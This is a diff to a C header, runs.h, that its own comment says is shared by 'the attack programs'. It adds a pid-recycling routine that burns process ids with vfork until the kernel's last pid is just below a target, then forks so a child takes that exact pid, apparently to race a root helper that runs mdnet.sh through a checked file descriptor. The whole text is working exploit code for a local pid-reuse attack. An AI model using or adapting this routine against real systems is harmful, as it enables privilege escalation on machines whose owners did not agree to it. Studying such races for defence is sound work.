@@ -1,7 +1,8 @@
-/* runs.h: is a process running program NAME? Shared by the attack programs.
+/* runs.h: what the attack programs share: is a process running program
+ * NAME (runs), reading /proc, and taking a given pid (recycle_pid).
  *
- * Its comm, or the base name of its argv[0] or of the script its interpreter
- * reads (argv[1]): mdhelper execs root's mdnet.sh through an fd it checked,
+ * runs() looks at its comm, or the base name of its argv[0] or of the script
+ * its interpreter reads (argv[1]): mdhelper execs root's mdnet.sh through an fd it checked,
  * so the shell's comm is its own, argv[1] is /dev/fd/N, and fd N is the
  * script. */
 #ifndef ATTACK_RUNS_H
@@ -12,6 +13,8 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/types.h>
+#include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 static inline int same_base(const char *path, const char *name)
@@ -51,6 +54,39 @@ static inline int last_pid(int fd)
 		return -1;
 	buf[n] = '\0';
 	return atoi(buf);
+}
+
+/* One pid used up: vfork (no page tables copied) and reap at once. */
+static inline pid_t burn_pid(void)
+{
+	pid_t pid = vfork();
+
+	if (pid == 0)
+		_exit(0);
+	if (pid > 0)
+		waitpid(pid, NULL, 0);
+	return pid;
+}
+
+/* Has the kernel give pid TARGET to a child of ours: uses pids up until
+ * the last one handed out is TARGET - 1, then calls take(TARGET, arg),
+ * which forks (the child sees whether getpid() is TARGET) and returns the
+ * child's pid, having reaped it if it is not TARGET. Another process may
+ * take TARGET first; then it tries again, until END. An unprivileged
+ * user can do this to any free pid: pid_max is 32768 here, and a lap of
+ * the pid space takes about a second. 1 once the child is TARGET, 0 if
+ * END came first. lastfd: /proc/sys/kernel/ns_last_pid, open. */
+static inline int recycle_pid(int lastfd, pid_t target, time_t end,
+			      pid_t (*take)(pid_t target, void *arg), void *arg)
+{
+	while (time(NULL) < end)
+		for (int i = 0; i < 1000; i++) {
+			if (last_pid(lastfd) != target - 1)
+				burn_pid();
+			else if (take(target, arg) == target)
+				return 1;
+		}
+	return 0;
 }
 
 static inline int cmdline_of(pid_t pid, char *buf, size_t size)
